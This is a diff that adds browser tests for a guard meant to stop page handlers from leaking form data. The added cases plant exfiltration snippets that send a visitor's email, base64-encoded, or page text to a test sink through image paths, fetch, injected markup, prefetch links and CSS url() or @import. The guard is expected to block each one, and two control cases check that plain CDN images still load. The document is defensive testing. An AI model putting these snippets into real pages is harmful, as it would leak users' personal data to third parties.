@@ -333,6 +333,67 @@ describe('other channels a page handler sends data by', function () {
     }) }));
   });
 
+  // The data carried in an address's path, not its query: a picture named after the visitor's
+  // email, a fetch whose path holds it base64-encoded.
+  it("an image whose path (not its query) carries the field's value", async () => {
+    await refusedKinds(await attack({ page, setup: onSave(() => (new Image().src = sink.url(`/p/${email()}.gif`))) }));
+  });
+
+  it('a fetch GET whose path carries the value base64-encoded', async () => {
+    await refusedKinds(await attack({ page, setup: onSave(() => void fetch(sink.url(`/u/${btoa(email())}`)).catch(() => undefined)) }));
+  });
+
+  it("an image whose path carries a run of the page's own text, or an order number it shows", async () => {
+    const shown = `${page}<p>Note: leave at the blue door. Order ZX99812Q is on its way.</p>`;
+    await refusedKinds(await attack({ page: shown, setup: onSave(() => (new Image().src = sink.url('/n/leave-at-the-blue-door.gif'))) }));
+    sink = createSink();
+    await refusedKinds(await attack({ page: shown, setup: onSave(() => (new Image().src = sink.url('/o/zx99812q.gif'))) }));
+  });
+
+  // Resources inserted as markup or CSS load without any address setter being called. Each is put
+  // in the test's own page (its root), which the next test replaces.
+  const inserting = (make: (url: string) => string, insert: (root: HTMLElement, text: string) => void) => (root: HTMLElement) =>
+    onSave(() => insert(root, make(sink.url(`/m.gif?e=${email()}`))))(root);
+  it('innerHTML with an image whose src carries the data', async () => {
+    await refusedKinds(await attack({ page, setup: inserting((url) => `<img alt="" src="${url}">`, (root, markup) => (root.querySelector('label')!.innerHTML += markup)) }));
+  });
+
+  it('insertAdjacentHTML with a prefetch link carrying the data', async () => {
+    await refusedKinds(await attack({ page, setup: inserting((url) => `<link rel="prefetch" href="${url}">`, (root, markup) => root.insertAdjacentHTML('beforeend', markup)) }));
+  });
+
+  it('a node parsed by DOMParser and appended, its picture carrying the data', async () => {
+    await refusedKinds(await attack({ page, setup: inserting((url) => `<div><img alt="" src="${url}"></div>`, (root, markup) => root.append(new DOMParser().parseFromString(markup, 'text/html').body.firstElementChild!)) }));
+  });
+
+  it("a style's background-image set from the handler carries the data", async () => {
+    await refusedKinds(await attack({ page, setup: inserting((url) => `url("${url}")`, (root, css) => (root.style.backgroundImage = css)) }));
+  });
+
+  it('a <style> with @import added by the handler carries the data', async () => {
+    await refusedKinds(await attack({ page, setup: inserting((url) => `@import url("${url}");`, (root, css) => {
+      const style = document.createElement('style');
+      style.textContent = css;
+      root.append(style);
+    }) }));
+  });
+
+  it('a style attribute set with setAttribute, its url() carrying the data', async () => {
+    await refusedKinds(await attack({ page, setup: inserting((url) => `background: url(${url})`, (root, css) => root.querySelector('label')!.setAttribute('style', css)) }));
+  });
+
+  it("a CDN's picture at another size (a query with no data of the page's) still loads", async () => {
+    const run = await attack({ page: `${page}<img id="photo" alt="Shoe" src="">`, setup: onSave(() => ((document.querySelector('#photo') as HTMLImageElement).src = sink.url('/x.jpg?w=600&dpr=2'))) });
+    expect(run.blocked).to.deep.equal([]);
+    expect((await sink.whenReceived(1)).map((record) => `${record.method} ${record.path}`)).to.deep.equal(['GET /x.jpg']);
+  });
+
+  it("a gallery's markup with a CDN picture (no data in its address) is inserted and loads", async () => {
+    const run = await attack({ page, setup: (root) => onSave(() => root.insertAdjacentHTML('beforeend', `<img alt="" src="${sink.url('/large/x.jpg?w=1200')}">`))(root) });
+    expect(run.blocked).to.deep.equal([]);
+    expect((await sink.whenReceived(1)).map((record) => `${record.method} ${record.path}`)).to.deep.equal(['GET /large/x.jpg']);
+  });
+
   it("an image from another origin with no data in its address still loads (a CDN's picture)", async () => {
     const run = await attack({ page, setup: onSave(() => (new Image().src = sink.url('/photo.png'))) });
     expect(run.blocked).to.deep.equal([]);
